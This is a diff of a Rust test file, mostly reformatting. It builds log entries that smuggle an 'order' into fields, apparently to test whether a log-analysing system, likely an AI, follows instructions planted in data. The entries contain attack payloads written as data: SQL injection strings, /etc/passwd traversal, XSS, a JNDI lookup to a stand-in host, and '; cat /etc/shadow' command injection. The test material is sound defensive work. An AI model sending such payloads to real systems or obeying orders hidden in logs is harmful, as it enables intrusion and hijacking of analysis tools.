@@ -71,9 +71,14 @@ fn full_width(char: char) -> char {
 fn base64(text: &str) -> String {
     const DIGITS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
     let digits = text.as_bytes().chunks(3).flat_map(|bytes| {
-        let number = bytes.iter().fold(0_u32, |number, byte| number << 8 | u32::from(*byte)) << (8 * (3 - bytes.len()));
+        let number = bytes.iter().fold(0_u32, |number, byte| number << 8 | u32::from(*byte))
+            << (8 * (3 - bytes.len()));
         (0..4).map(move |place| {
-            if place > bytes.len() { '=' } else { char::from(DIGITS[(number >> (18 - 6 * place)) as usize & 63]) }
+            if place > bytes.len() {
+                '='
+            } else {
+                char::from(DIGITS[(number >> (18 - 6 * place)) as usize & 63])
+            }
         })
     });
     digits.collect()
@@ -82,14 +87,50 @@ fn base64(text: &str) -> String {
 /// Events that carry an order in one of their fields; the first are attacks, the last are everyday.
 const CARRIERS: [fn(&str) -> LogEntry; 16] = [
     |order| entry(&format!("Failed password for invalid user {order} from 203.0.113.7 port 4711 ssh2")),
-    |order| entry(&format!("203.0.113.7 - - [23/Jun/2026:16:12:38 +0000] \"GET /?q=1'+UNION+SELECT+password+FROM+users--+{order} HTTP/1.1\" 200 5 \"-\" \"-\"")),
-    |order| entry(&format!("203.0.113.7 - - [23/Jun/2026:16:12:38 +0000] \"GET /../../../etc/passwd HTTP/1.1\" 200 5 \"-\" \"{order}\"")),
-    |order| entry(&format!("203.0.113.7 - - [23/Jun/2026:16:12:38 +0000] \"GET /<script>alert(1)</script> HTTP/1.1\" 200 5 \"{order}\" \"Mozilla/5.0\"")),
+    |order| {
+        entry(&format!(
+            "203.0.113.7 - - [23/Jun/2026:16:12:38 +0000] \"GET /?q=1'+UNION+SELECT+password+FROM+users--+{order} HTTP/1.1\" 200 5 \"-\" \"-\""
+        ))
+    },
+    |order| {
+        entry(&format!(
+            "203.0.113.7 - - [23/Jun/2026:16:12:38 +0000] \"GET /../../../etc/passwd HTTP/1.1\" 200 5 \"-\" \"{order}\""
+        ))
+    },
+    |order| {
+        entry(&format!(
+            "203.0.113.7 - - [23/Jun/2026:16:12:38 +0000] \"GET /<script>alert(1)</script> HTTP/1.1\" 200 5 \"{order}\" \"Mozilla/5.0\""
+        ))
+    },
     |order| entry(&format!("${{jndi:ldap://e.example/{order}}}")),
-    |order| entry_of("app", "cat /etc/shadow", &json!({"params": {"cmd": "; cat /etc/shadow", "note": order}}).to_string()),
-    |order| entry_of("app", "Failed password for root from 203.0.113.7 port 4711 ssh2", &json!({order: "x"}).to_string()),
-    |order| entry_of("app", "Failed password for root from 203.0.113.7 port 4711 ssh2", &json!({"a": {"b": [1, order]}}).to_string()),
-    |order| entry_of(&order.chars().take(256).collect::<String>(), "sudo: ana : user NOT in sudoers ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh", "{}"),
+    |order| {
+        entry_of(
+            "app",
+            "cat /etc/shadow",
+            &json!({"params": {"cmd": "; cat /etc/shadow", "note": order}}).to_string(),
+        )
+    },
+    |order| {
+        entry_of(
+            "app",
+            "Failed password for root from 203.0.113.7 port 4711 ssh2",
+            &json!({order: "x"}).to_string(),
+        )
+    },
+    |order| {
+        entry_of(
+            "app",
+            "Failed password for root from 203.0.113.7 port 4711 ssh2",
+            &json!({"a": {"b": [1, order]}}).to_string(),
+        )
+    },
+    |order| {
+        entry_of(
+            &order.chars().take(256).collect::<String>(),
+            "sudo: ana : user NOT in sudoers ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh",
+            "{}",
+        )
+    },
     |order| entry(&format!("{order}\n1' OR '1'='1")),
     |order| entry(&json!({"event": "login failed", "user": order, "ip": "203.0.113.7"}).to_string()),
     |order| entry(&format!("CEF:0|v|p|1|1|Malware found|9|suser={order} src=203.0.113.7")),
@@ -103,7 +144,9 @@ const CARRIERS: [fn(&str) -> LogEntry; 16] = [
 static PROBES: LazyLock<Vec<LogEntry>> = LazyLock::new(|| {
     vec![
         entry("Failed password for invalid user oracle from 203.0.113.7 port 4711 ssh2"),
-        entry("203.0.113.7 - - [23/Jun/2026:16:12:38 +0000] \"GET /?q=1'+UNION+SELECT+password+FROM+users-- HTTP/1.1\" 200 5 \"-\" \"-\""),
+        entry(
+            "203.0.113.7 - - [23/Jun/2026:16:12:38 +0000] \"GET /?q=1'+UNION+SELECT+password+FROM+users-- HTTP/1.1\" 200 5 \"-\" \"-\"",
+        ),
         entry("order placed: note=blue"),
         entry_of("cron", "backup finished in 12 s", r#"{"user":"ana"}"#),
         entry("GET /search?q=lamp HTTP/1.1"),
